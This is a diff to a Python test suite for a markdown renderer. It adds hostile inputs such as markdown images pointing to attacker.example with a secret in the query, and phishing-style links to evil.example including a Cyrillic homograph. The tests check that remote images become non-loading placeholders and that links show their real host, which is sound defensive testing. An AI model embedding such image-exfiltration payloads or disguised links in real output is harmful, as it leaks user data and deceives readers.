@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from html.parser import HTMLParser
 
 from hypothesis import given
@@ -109,6 +110,9 @@ XSS = [
     '<div style="position:fixed">x</div>',
     "[rel](/api/providers)",
     "[data](data:text/html;base64,PHNjcmlwdD4=)",
+    "![leak](https://attacker.example/?q=secret)",
+    "![leak][r]\n\n[r]: http://attacker.example/x.png",
+    '<span data-src="https://attacker.example/" class="remote-image">x</span>',
 ]
 
 
@@ -137,8 +141,10 @@ def assert_inert(html: str) -> None:
             assert not name.startswith("on") and name != "style", html
             if name == "href":
                 assert (value or "").startswith(("http:", "https:", "mailto:")), html
-            if name == "src":
-                assert (value or "").startswith(("http:", "https:", "data:image/")), html
+            if name == "src":  # nothing the browser fetches by itself as the answer renders
+                assert (value or "").startswith("data:image/"), html
+            if name == "data-src":
+                assert (value or "").startswith(("http:", "https:")), html
 
 
 def test_hostile_markdown_comes_out_inert():
@@ -148,10 +154,47 @@ def test_hostile_markdown_comes_out_inert():
 
 
 def test_safe_links_and_images_are_kept():
-    html = render_markdown("[a](https://example.com) <mailto:me@example.com> ![i](data:image/png;base64,AAAA)")
-    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer">a</a>' in html
-    assert 'href="mailto:me@example.com"' in html
+    html = render_markdown("[https://example.com](https://example.com) <mailto:me@example.com> ![i](data:image/png;base64,AAAA)")
+    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">https://example.com</a> ' in html
+    assert '<a href="mailto:me@example.com" target="_blank" rel="noopener noreferrer nofollow">mailto:me@example.com</a> ' in html
     assert '<img src="data:image/png;base64,AAAA" alt="i">' in html
+
+
+def test_a_remote_image_is_a_placeholder_naming_its_host():
+    html = render_markdown('![the chart](https://user@img.example:8443/c.png?q=a&b=secret "Chart")')
+    assert "<img" not in html
+    url = "https://user@img.example:8443/c.png?q=a&amp;b=secret"
+    assert html == (
+        f'<p><span class="remote-image" data-src="{url}" data-host="img.example:8443" data-alt="the chart" '
+        f'title="{url}">Image from img.example:8443 (not loaded): the chart</span></p>\n'
+    )
+    assert 'data-host="img.example"' in render_markdown("![](http://IMG.example/x)")
+    assert "Image from img.example (not loaded)</span>" in render_markdown("![](http://IMG.example/x)")
+
+
+def test_the_streamed_blocks_and_tail_use_placeholders_too():
+    blocks, tail = split("Intro\n\n![x](https://a.example/1.png)\n\n![y](https://b.example/2.png) and", step=5)
+    for source in [*blocks, tail]:
+        assert "<img" not in render_markdown(source)
+    assert 'data-host="b.example"' in render_markdown(tail)
+
+
+def test_links_show_their_real_host_when_the_text_is_something_else():
+    def host_note(markdown: str) -> str | None:
+        found = re.search(r'</a><span class="link-host"> \((.*?)\)</span>', render_markdown(markdown))
+        return found.group(1) if found else None
+
+    assert host_note("[your bank](https://evil.example/login)") == "evil.example"
+    assert host_note("[https://bank.example](https://evil.example)") == "evil.example"
+    assert host_note("[bank.example](https://bank.example.evil.example/)") == "bank.example.evil.example"
+    assert host_note("[docs](https://user@evil.example:8080/)") == "evil.example:8080"
+    assert host_note("[аpple.com](https://аpple.com)") == "xn--pple-43d.com"  # an international name shows as is
+    assert host_note("[apple.com](https://аpple.com)") == "xn--pple-43d.com"  # Cyrillic а shows
+    assert host_note("[write us](mailto:help@evil.example)") == "help@evil.example"
+    assert host_note("[example.com/page](https://example.com/page)") is None
+    assert host_note("[https://example.com](https://example.com)") is None
+    assert host_note("<https://example.com/a>") is None
+    assert host_note("<me@example.com>") is None
 
 
 def test_user_text_is_escaped_with_line_breaks():
